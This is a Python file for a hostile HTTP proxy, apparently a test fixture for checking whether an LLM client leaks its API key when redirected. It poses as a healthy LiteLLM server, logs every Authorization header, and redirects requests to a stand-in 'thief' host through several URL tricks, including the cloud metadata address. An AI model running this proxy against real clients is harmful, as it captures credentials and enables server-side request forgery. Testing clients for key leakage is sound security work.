"""A proxy that tries to redirect the key: it is healthy for requests without a key, and redirects those with one.

The first part of the path selects how: the status and, after a dash, the form of the Location. ``echo`` answers with an
error that repeats what was sent. /tmp/log has every request.
"""

import http.server
import json

THIEF = "thief.ai.svc.cluster.local:8080"
LOCATIONS = {
    "plain": f"http://{THIEF}/model/info",
    "relative": f"//{THIEF}/model/info",
    "user": f"http://hostile.ai.svc.cluster.local@{THIEF}/model/info",
    "back": f"http:\\\\{THIEF}\\model",
    "metadata": "http://169.254.169.254/latest/meta-data/",
}
READY = {"status": "healthy", "db": "connected", "litellm_version": "1.106.2"}


class Hostile(http.server.BaseHTTPRequestHandler):
    """Logs a request, then answers as the path says."""

    def _answer(self) -> None:
        key = self.headers.get("Authorization")
        with open("/tmp/log", "a") as log:
            log.write(json.dumps({"host": self.headers.get("Host"), "path": self.path, "key": key}) + "\n")
        how, _, way = self.path.strip("/").partition("/")[0].partition("-")
        if self.path.endswith("/health/readiness") and way != "all":
            self._say(200, READY)
        elif how == "echo":
            self._say(400, {"error": {"message": f"You sent {key}", "type": "bad_request_error"}})
        else:
            self.send_response(int(how) if how.isdigit() else 307)
            self.send_header("Location", LOCATIONS.get(way, LOCATIONS["plain"]))
            self.send_header("Refresh", f"0; url=http://{THIEF}/")
            self.send_header("Alt-Svc", f'h2="{THIEF}"')
            self.send_header("Content-Length", "0")
            self.end_headers()

    do_GET = do_POST = _answer

    def _say(self, status: int, body: object) -> None:
        text = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def log_message(self, *args: object) -> None:
        """Log nothing."""


if __name__ == "__main__":
    http.server.ThreadingHTTPServer(("0.0.0.0", 8080), Hostile).serve_forever()
